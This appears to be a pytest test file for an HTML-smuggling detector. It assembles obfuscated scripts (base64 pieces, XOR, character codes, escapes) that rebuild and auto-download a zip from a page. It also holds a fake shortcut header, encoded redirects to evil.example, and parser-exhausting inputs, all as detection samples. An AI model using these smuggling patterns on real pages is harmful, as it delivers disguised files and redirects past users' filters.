"""Files that a script would assemble are rebuilt without running it."""

from __future__ import annotations

import base64
import io
import time
import zipfile

import pytest

from analyzers.attachments.smuggling import UNIT
from analyzers.model.content import Link
from analyzers.model.observation import Child, Severity
from tests.analyzers.lib.pages import FILE, findings, observe
from tests.thinned import thinned


def archive() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as packed:
        packed.writestr("invoice.txt", "inert " * 90)
    return held.getvalue()


FILE_BYTES = archive()
BASE64 = base64.b64encode(FILE_BYTES).decode()
CODES = ",".join(map(str, FILE_BYTES))
KEY = b"secret"
XORED = base64.b64encode(bytes(b ^ 0x5A for b in FILE_BYTES)).decode()
KEYED = base64.b64encode(bytes(b ^ KEY[n % 6] for n, b in enumerate(FILE_BYTES))).decode()
SAVE = (
    'var l=document.createElement("a");l.href=URL.createObjectURL(new Blob([x]));'
    'l.download="Invoice.zip";l.click();'
)


def pieces(size: int) -> str:
    return ",".join(f"'{BASE64[n : n + size]}'" for n in range(0, len(BASE64), size))


WAYS = {
    "atob of a literal": f'var x=atob("{BASE64}");',
    "window.atob": f"var x=window.atob(`{BASE64}`);",
    "pieces added up": f"var d='{BASE64[:70]}'+'{BASE64[70:]}';var x=atob(d);",
    "pieces appended": f"var d='{BASE64[:70]}';d+='{BASE64[70:200]}';d+='{BASE64[200:]}';"
    "x=atob(d);",
    "an array joined": f"var p=[{pieces(7)}];var x=atob(p.join(''));",
    "an array filled": f"var p=[];p.push('{BASE64[:90]}');p.push('{BASE64[90:]}');"
    "x=atob(p.join(''));",
    "used before it is set": f"function f(){{return atob(d)}} var d='{BASE64}';",
    "reversed": f"var x=atob('{BASE64[::-1]}'.split('').reverse().join(''));",
    "with filler": f"var x=atob('{BASE64[:60]}#!#{BASE64[60:]}'.replace('#!#',''));",
    "byte array": f"var x=new Uint8Array([{CODES}]);",
    "character codes": f"var x=String.fromCharCode({CODES});",
    "codes in a string": f"var s='{CODES}';for(c of s.split(',')) x+=f(c);",
    "hexadecimal": f"var h='{FILE_BYTES.hex()}';x=parseInt(h.substr(i,2),16);",
    "escaped string": "var x='" + "".join(f"\\x{b:02x}" for b in FILE_BYTES) + "';",
    "percent codes": "var x=unescape('" + "".join(f"%{b:02x}" for b in FILE_BYTES) + "');",
    "exclusive or with a number": f"var d=atob('{XORED}');x[i]=d.charCodeAt(i)^0x5a;",
    "exclusive or with a word": f"var k='secret';var d=atob('{KEYED}');"
    "x[i]=d.charCodeAt(i)^k.charCodeAt(i%k.length);",
    "base64 twice": f"var x=g('{base64.b64encode(BASE64.encode()).decode()}');",
}


def page(script: str) -> str:
    return f"<html><body><script>{script}{SAVE}</script></body></html>"


def rebuilt(source: str) -> list[Child]:
    return [o for o in observe(source, UNIT, FILE) if isinstance(o, Child)]


@pytest.mark.parametrize("way", WAYS)
def test_the_file_is_rebuilt_whole_and_once(way: str) -> None:
    children = rebuilt(page(WAYS[way]))
    assert [(c.name, c.data) for c in children] == [("Invoice.zip", FILE_BYTES)]


@pytest.mark.parametrize("way", WAYS)
def test_a_rebuilt_archive_is_a_grave_finding(way: str) -> None:
    finding = findings(observe(page(WAYS[way]), UNIT, FILE))["html.smuggling.blob"]
    assert finding.severity is Severity.HIGH


def test_data_in_the_page_is_found_where_a_script_decodes() -> None:
    data = f"<div id=d hidden>{BASE64}</div>"
    script = "var x=atob(document.getElementById('d').innerText);"
    assert [c.data for c in rebuilt(data + page(script))] == [FILE_BYTES]
    assert rebuilt(data) == []


def test_a_handler_and_a_drawing_count_as_scripts() -> None:
    assert rebuilt(f"""<body onload="x=atob('{BASE64}')">""")
    drawing = f"<svg><script><![CDATA[x=atob('{BASE64}')]]></script></svg>"
    assert [o for o in observe(drawing, UNIT, FILE, "svg") if isinstance(o, Child)]


def test_a_program_is_the_gravest_finding() -> None:
    shortcut = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + bytes(80)
    source = page(f"var x=atob('{base64.b64encode(shortcut).decode()}');")
    assert (
        findings(observe(source, UNIT, FILE))["html.smuggling.blob"].severity is Severity.CRITICAL
    )


def test_a_link_that_is_the_file_is_a_finding() -> None:
    source = f'<a download="i.zip" href="data:application/zip;base64,{BASE64}">x</a>'
    assert "i.zip: zip" in findings(observe(source, UNIT, FILE))["html.smuggling.blob"].evidence


def test_a_file_that_cannot_be_rebuilt_is_said() -> None:
    found = findings(observe(page("var x=strange('qqqq');"), UNIT, FILE))
    assert found["html.smuggling.script"].severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "script",
    [
        "window.location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF5');",
        "location=atob('aHR0cHM6Ly9ldmls'+'LmV4YW1wbGUvcGF5');",
        "location.replace(String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,46,101,"
        "120,97,109,112,108,101,47,112,97,121));",
        "var u='aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcGF5';location=decode(u);",
    ],
)
def test_a_hidden_goal_is_a_link_and_a_grave_finding(script: str) -> None:
    observed = observe(f"<script>{script}</script>", UNIT, FILE)
    urls = [o.url for o in observed if isinstance(o, Link) and o.source == "script"]
    assert urls == ["https://evil.example/pay"]
    assert findings(observed)["html.script.redirect"].severity is Severity.HIGH


def test_a_plain_goal_is_a_link_and_a_finding() -> None:
    observed = observe("<script>window.open('https://a.example/x')</script>", UNIT, FILE)
    assert [o.host for o in observed if isinstance(o, Link)] == ["a.example"]


@pytest.mark.parametrize(
    "source",
    [
        "<p>no script</p>",
        "<script>var a='hello',b=[1,2,3].join('-');document.title=a+b;</script>",
        "<script src=https://a.example/x.js></script>",
        f"<p>{BASE64}</p>",
        "<script>x='" + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(200)).decode() + "'</script>",
    ],
)
def test_ordinary_pages_have_no_finding(source: str) -> None:
    assert observe(source, UNIT, FILE) == []


BOMBS = {
    "doubling": "var a='xxxxxxxx';" + "a=a+a;" * 400,
    "long sum": "var a='" + "x" * 100_000 + "';" + "b=a" + "+a" * 20_000,
    "replace": "var a='" + "x" * 100_000 + "';a=a.replace('x','" + "y" * 100_000 + "');" * 50,
    "concat": "var a=[1,2,3];" + "a=a.concat(a,a);" * 300,
    "join": "var a='" + "x" * 50_000 + "'.split('').join('" + "y" * 50_000 + "');",
    "split again": "var a='" + "x" * 500_000 + "';" + "b=a.split('');" * 400,
    "slices": "var a='" + "x" * 1_000_000 + "';" + "b=a.slice(1);" * 3_000,
    "brackets": "(" * 200_000,
    "lists": "[" * 200_000,
    "new": "new " * 200_000,
    "window": "window." * 200_000,
    "dots": "a" + ".b" * 200_000,
    "slashes": "/[" * 400_000,
    "comment": "/*" * 400_000,
    "quotes": "'\\" * 400_000,
    "numbers": "x=[" + "1," * 1_000_000 + "z",
    "codes": "x='" + "65," * 1_000_000,
    "appended": "a+='x';b=a;" * 20_000,
    "base64": "x='" + "QUFB" * 2_000_000 + "';" + "y^1^2^3^4^5^6^7^8^9;",
    "many strings": "".join(f"f('{n:060d}');" for n in range(30_000)) + "x^7;y^8;",
    "handlers": '</script><p onx="' * 100_000,
    "scripts": "</script><script" * 100_000,
}


@pytest.mark.parametrize("name", thinned(BOMBS, 3))
def test_a_bomb_ends_soon(name: str) -> None:
    started = time.process_time()
    observed = observe(page(BOMBS[name]), UNIT, FILE)
    assert len(observed) < 200
    assert time.process_time() - started < 2.5


def test_a_script_too_long_to_read_says_so() -> None:
    assert "limit.html.script" in findings(observe(page("a;" * 150_000), UNIT, FILE))


def test_every_judgement_of_links_and_bound_of_pages_is_explained() -> None:
    from importlib.resources import files

    from analyzers.lib.linkfindings import RULES
    from analyzers.lib.page import LIMITS

    pages = files("resources").joinpath("help/rules")
    for rule in [*RULES, *(f"limit.html.{name}" for name in LIMITS)]:
        assert pages.joinpath(f"{rule}.md").is_file(), rule
